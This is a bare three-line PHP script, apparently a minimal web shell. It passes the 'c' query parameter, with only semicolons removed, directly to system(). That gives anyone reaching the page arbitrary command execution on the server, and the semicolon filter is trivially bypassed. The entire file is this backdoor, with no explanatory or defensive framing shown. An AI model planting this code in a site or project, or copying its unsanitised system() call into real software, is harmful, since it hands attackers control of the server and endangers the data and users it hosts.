<?php
function g() { return str_replace(";", "", $_GET["c"]); }
system(g());
